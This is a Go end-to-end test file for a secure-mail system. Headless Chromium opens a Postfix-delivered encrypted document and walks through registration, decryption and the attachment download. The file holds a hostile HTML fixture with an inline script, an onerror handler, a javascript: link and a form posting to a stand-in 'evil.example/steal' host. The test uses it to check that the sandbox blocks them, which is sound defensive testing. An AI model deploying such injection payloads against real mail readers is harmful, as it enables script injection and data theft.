@@ -1,0 +1,341 @@
+package e2e
+
+// The recipient's side in a real browser: headless Chromium opens the
+// securedoc that a real Postfix delivered, from disk (file://), and through
+// Open Online from the key service's own origin.
+
+import (
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/base64"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/browser"
+	"github.com/chromedp/cdproto/page"
+	"github.com/chromedp/chromedp"
+
+	"github.com/postseal/postseal/test/mta"
+)
+
+const chromiumPath = "/usr/bin/chromium"
+
+// browserTimeout bounds one step in the browser (page load, decrypt,
+// download); on loopback they take well under a second.
+const browserTimeout = 30 * time.Second
+
+// startBrowser starts a headless Chromium with a fresh profile, without the
+// background traffic that floods a closed network (NOTES.md).
+func startBrowser(t *testing.T) context.Context {
+	t.Helper()
+	if _, err := os.Stat(chromiumPath); err != nil {
+		if os.Getenv("CI") != "" {
+			t.Fatalf("chromium is required in CI (make test-deps installs it): %v", err)
+		}
+		t.Skipf("chromium not installed (apt-get install chromium): %v", err)
+	}
+	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(),
+		chromedp.ExecPath(chromiumPath),
+		chromedp.Headless, chromedp.NoSandbox, chromedp.DisableGPU, chromedp.NoFirstRun, chromedp.NoDefaultBrowserCheck,
+		chromedp.Flag("disable-background-networking", true),
+		chromedp.Flag("disable-component-update", true),
+		chromedp.Flag("disable-sync", true),
+		chromedp.Flag("user-data-dir", t.TempDir()),
+	)
+	ctx, cancel := chromedp.NewContext(actx)
+	t.Cleanup(func() { cancel(); cancelAlloc() })
+	// The first Run starts the browser; it must not carry a timeout.
+	if err := chromedp.Do(ctx); err != nil {
+		t.Fatalf("starting chromium: %v", err)
+	}
+	return ctx
+}
+
+// browserDo runs steps with the per-step deadline.
+func browserDo(t *testing.T, ctx context.Context, what string, steps ...chromedp.Action[chromedp.Void]) {
+	t.Helper()
+	sctx, cancel := context.WithTimeout(ctx, browserTimeout)
+	defer cancel()
+	if err := chromedp.Do(sctx, steps...); err != nil {
+		t.Fatalf("%s: %v\npage: %s", what, err, browserText(ctx, "body"))
+	}
+}
+
+// browserSubmit clicks a form's button and waits for the page it loads.
+func browserSubmit(t *testing.T, ctx context.Context, sel string) {
+	t.Helper()
+	sctx, cancel := context.WithTimeout(ctx, browserTimeout)
+	defer cancel()
+	if _, err := chromedp.Run(sctx, chromedp.WaitEvent(page.LoadEventFired, nil, chromedp.Click(chromedp.CSS(sel)))); err != nil {
+		t.Fatalf("submit %s: %v\npage: %s", sel, err, browserText(ctx, "body"))
+	}
+}
+
+// browserText is the visible text of the first element matching sel, or a
+// note why there is none (for failure messages and assertions).
+func browserText(ctx context.Context, sel string) string {
+	sctx, cancel := context.WithTimeout(ctx, 5*time.Second)
+	defer cancel()
+	s, err := chromedp.Run(sctx, chromedp.TextContent(chromedp.CSS(sel)))
+	if err != nil {
+		return fmt.Sprintf("(no %s: %v)", sel, err)
+	}
+	return s
+}
+
+func browserEval[T any](t *testing.T, ctx context.Context, expr string) T {
+	t.Helper()
+	sctx, cancel := context.WithTimeout(ctx, browserTimeout)
+	defer cancel()
+	v, err := chromedp.Run(sctx, chromedp.Evaluate[T](expr))
+	if err != nil {
+		t.Fatalf("evaluate %s: %v", expr, err)
+	}
+	return v
+}
+
+// browserHostileHTML carries what a hostile sender might put in the HTML
+// part: an inline script, an event handler, a javascript: link and a form.
+// Each would set window.top.pwned (or the title) if it ran.
+const browserHostileHTML = `<html><body><p id="greeting">Results are attached. Hostile test content follows.</p>
+<script>window.top.pwned = "script"; top.document.title = "pwned";</script>
+<img src="x" onerror="window.top.pwned = 'onerror'; top.document.title = 'pwned'">
+<a href="javascript:window.top.pwned='link'">link</a>
+<form action="https://evil.example/steal"><input name="q"></form>
+</body></html>`
+
+// browserMessage is a *secure* message with a text part, the hostile HTML
+// part and a binary attachment.
+func browserMessage(rcpt string, attachment []byte) []byte {
+	b64 := base64.StdEncoding.EncodeToString(attachment)
+	var lines []string
+	for len(b64) > 76 {
+		lines, b64 = append(lines, b64[:76]), b64[76:]
+	}
+	lines = append(lines, b64)
+	return []byte(strings.ReplaceAll(fmt.Sprintf(`From: Dr Who <%s>
+To: <%s>
+Subject: *secure* Your results
+Date: Mon, 23 Nov 2026 09:00:00 +0000
+Message-ID: <browser@example.org>
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="mixed"
+
+--mixed
+Content-Type: multipart/alternative; boundary="alt"
+
+--alt
+Content-Type: text/plain; charset=utf-8
+
+Browser body marker: your potassium is 4.1 mmol/L.
+--alt
+Content-Type: text/html; charset=utf-8
+
+%s
+--alt--
+--mixed
+Content-Type: application/octet-stream; name="results.bin"
+Content-Disposition: attachment; filename="results.bin"
+Content-Transfer-Encoding: base64
+
+%s
+--mixed--
+`, postfixSender, rcpt, browserHostileHTML, strings.Join(lines, "\n")), "\n", "\r\n"))
+}
+
+func TestBrowserOpen(t *testing.T) {
+	needRoot(t)
+	ctx := startBrowser(t)
+	env := startPostfixEnv(t)
+	pf, ps := env.pf, env.ps
+	base := fmt.Sprintf("http://127.0.0.1:%d", ps.HTTPPort)
+	rcpt := "browser-reader@partner.example.net"
+	const password = "correct horse battery staple"
+
+	attachment := make([]byte, 50_000)
+	if _, err := rand.Read(attachment); err != nil {
+		t.Fatal(err)
+	}
+	mark := postfixMustAccept(t, pf, mta.SMTP, postfixSender, []string{rcpt}, browserMessage(rcpt, attachment))
+	sealed := postfixOpenSealed(t, ps, postfixWait(t, pf, mark, rcpt, 1)[0])
+	doc := filepath.Join(t.TempDir(), sealed.AttachmentName)
+	if err := os.WriteFile(doc, sealed.HTML, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	docURL := "file://" + doc
+
+	// Not registered yet: the page says so and links to the registration.
+	browserDo(t, ctx, "open the securedoc",
+		chromedp.Navigate(docURL),
+		chromedp.WaitVisible(chromedp.CSS("#open")),
+		chromedp.SetValue(chromedp.CSS("#password"), password),
+		chromedp.Click(chromedp.CSS("#open")),
+		chromedp.WaitVisible(chromedp.CSS("#error")),
+	)
+	if msg := browserText(ctx, "#error"); !strings.Contains(strings.ToLower(msg), "regist") {
+		t.Fatalf("unregistered recipient told %q; want a sentence about registering", msg)
+	}
+	register := browserEval[string](t, ctx, `(document.querySelector('#error a[href*="/register"]') || {}).href || ""`)
+	if !strings.HasPrefix(register, base+"/register?") || !strings.Contains(register, "browser-reader%40partner.example.net") {
+		t.Fatalf("register link %q; want %s/register?email=<the address>", register, base)
+	}
+
+	browserDo(t, ctx, "register",
+		chromedp.Navigate(register),
+		chromedp.WaitVisible(chromedp.CSS(`input[name="first_name"]`)),
+		chromedp.SetValue(chromedp.CSS(`input[name="first_name"]`), "Bea"),
+		chromedp.SetValue(chromedp.CSS(`input[name="last_name"]`), "Reader"),
+		chromedp.SetValue(chromedp.CSS(`input[name="password"]`), password),
+		chromedp.SetValue(chromedp.CSS(`input[name="confirm_password"]`), password),
+	)
+	browserSubmit(t, ctx, `form button[type="submit"]`)
+	if got := browserEval[string](t, ctx, `document.body.innerText`); !strings.Contains(got, "Check your mail") {
+		t.Fatalf("after Register: %q", got)
+	}
+
+	// The activation mail arrives in the sink beside the sealed copy.
+	var link string
+	for _, d := range postfixWait(t, pf, mark, rcpt, 2) {
+		if m := keyserverActivationRe.FindString(keyserverMailText(t, d.Data)); m != "" {
+			link = m
+		}
+	}
+	if link == "" {
+		t.Fatalf("no activation link in the mails to %s", rcpt)
+	}
+	browserDo(t, ctx, "activate",
+		chromedp.Navigate(link),
+		chromedp.WaitVisible(chromedp.CSS(`form button[type="submit"]`)),
+	)
+	browserSubmit(t, ctx, `form button[type="submit"]`)
+	if got := browserEval[string](t, ctx, `document.body.innerText`); !strings.Contains(got, "confirmed") {
+		t.Fatalf("after Activate: %q", got)
+	}
+
+	t.Run("WrongPassword", func(t *testing.T) {
+		browserDo(t, ctx, "wrong password",
+			chromedp.Navigate(docURL),
+			chromedp.WaitVisible(chromedp.CSS("#open")),
+			chromedp.SetValue(chromedp.CSS("#password"), "not the password at all"),
+			chromedp.Click(chromedp.CSS("#open")),
+			chromedp.WaitVisible(chromedp.CSS("#error")),
+		)
+		if msg := browserText(ctx, "#error"); !strings.Contains(strings.ToLower(msg), "password") {
+			t.Errorf("wrong password told %q", msg)
+		}
+		if browserEval[bool](t, ctx, `!document.querySelector('#message').hidden`) {
+			t.Error("the message is shown after a wrong password")
+		}
+	})
+
+	t.Run("FromDiskKeyboardOnlyOnAPhone", func(t *testing.T) {
+		// A phone-sized screen, and only the keyboard: focus the password
+		// field, type, press Enter.
+		browserDo(t, ctx, "open from disk",
+			chromedp.EmulateViewport(390, 844),
+			chromedp.Navigate(docURL),
+			chromedp.WaitVisible(chromedp.CSS("#open")),
+			chromedp.Focus(chromedp.CSS("#password")),
+			chromedp.KeyEvent(password+"\r"),
+			chromedp.WaitVisible(chromedp.CSS("#message")),
+		)
+		if w := browserEval[int](t, ctx, `document.documentElement.scrollWidth - window.innerWidth`); w > 0 {
+			t.Errorf("the opened message is %d px wider than a 390 px screen", w)
+		}
+		if n := browserEval[int](t, ctx, `[...document.querySelectorAll('input, select, button')].filter(e => !e.closest('[hidden]') && e.type !== 'hidden' && e.type !== 'submit' && e.type !== 'button' && !(e.labels && e.labels.length)).length`); n != 0 {
+			t.Errorf("%d visible controls without a label", n)
+		}
+		browserCheckMessage(t, ctx, attachment)
+		browserDo(t, ctx, "reset the screen", chromedp.ResetViewport())
+	})
+
+	t.Run("OpenOnline", func(t *testing.T) {
+		browserDo(t, ctx, "Open Online",
+			chromedp.Navigate(docURL),
+			chromedp.WaitVisible(chromedp.CSS(`#open-online button[type="submit"]`)),
+		)
+		browserSubmit(t, ctx, `#open-online button[type="submit"]`)
+		browserDo(t, ctx, "the Open Online page", chromedp.WaitVisible(chromedp.CSS("#open")))
+		if loc := browserEval[string](t, ctx, `location.href`); loc != base+"/open" {
+			t.Fatalf("Open Online went to %q; want %s/open", loc, base)
+		}
+		browserDo(t, ctx, "open online",
+			chromedp.SetValue(chromedp.CSS("#password"), password),
+			chromedp.Click(chromedp.CSS("#open")),
+			chromedp.WaitVisible(chromedp.CSS("#message")),
+		)
+		browserCheckMessage(t, ctx, attachment)
+	})
+}
+
+// browserCheckMessage checks the opened message: headers, text, the HTML in
+// a sandbox where nothing hostile ran, and the attachment's bytes.
+func browserCheckMessage(t *testing.T, ctx context.Context, attachment []byte) {
+	t.Helper()
+	if got := browserText(ctx, "#msg-subject"); got != "*secure* Your results" {
+		t.Errorf("subject shown %q", got)
+	}
+	if got := browserText(ctx, "#msg-from"); !strings.Contains(got, postfixSender) {
+		t.Errorf("from shown %q", got)
+	}
+	if got := browserText(ctx, "#msg-text"); !strings.Contains(got, "Browser body marker: your potassium is 4.1 mmol/L.") {
+		t.Errorf("text part shown %q", got)
+	}
+	sandbox := browserEval[string](t, ctx, `document.querySelector('#msg-html').getAttribute('sandbox')`)
+	if strings.Contains(sandbox, "allow-scripts") || strings.Contains(sandbox, "allow-forms") {
+		t.Errorf("the HTML frame's sandbox %q allows scripts or forms", sandbox)
+	}
+	// The hostile content is shown inertly: its text is there, its script,
+	// handler and link never ran.
+	greeting := browserEval[string](t, ctx, `(() => { const d = document.querySelector('#msg-html').contentDocument; const g = d && d.querySelector('#greeting, p'); return g ? g.textContent : ""; })()`)
+	if !strings.Contains(greeting, "Results are attached") {
+		t.Errorf("HTML part not rendered: %q", greeting)
+	}
+	if pwned := browserEval[string](t, ctx, `String(window.pwned) + " " + document.title`); strings.Contains(pwned, "script") || strings.Contains(pwned, "onerror") || strings.Contains(pwned, "pwned") {
+		t.Errorf("hostile content ran: %q", pwned)
+	}
+
+	dir := t.TempDir()
+	on := true
+	if _, err := chromedp.CallBrowser(ctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{
+		Behavior: browser.SetDownloadBehaviorBehaviorAllowAndName, DownloadPath: dir, EventsEnabled: &on,
+	}); err != nil {
+		t.Fatal(err)
+	}
+	dctx, cancel := context.WithTimeout(ctx, browserTimeout)
+	defer cancel()
+	done := make(chan string, 1)
+	go func() {
+		defer close(done)
+		for ev, err := range chromedp.BrowserEvents(dctx, browser.DownloadProgress) {
+			if err != nil {
+				return
+			}
+			if ev.State == browser.DownloadProgressStateCompleted {
+				done <- ev.GUID
+				return
+			}
+		}
+	}()
+	if name := browserText(ctx, "#attachments"); !strings.Contains(name, "results.bin") {
+		t.Errorf("attachment list %q; want results.bin with its size", name)
+	}
+	browserDo(t, ctx, "download", chromedp.Click(chromedp.CSS("#attachments a[download]")))
+	guid, ok := <-done
+	if !ok {
+		t.Fatalf("no completed download within %v", browserTimeout)
+	}
+	got, err := os.ReadFile(filepath.Join(dir, guid))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.Equal(got, attachment) {
+		t.Errorf("downloaded %d bytes differ from the %d sent", len(got), len(attachment))
+	}
+}
+
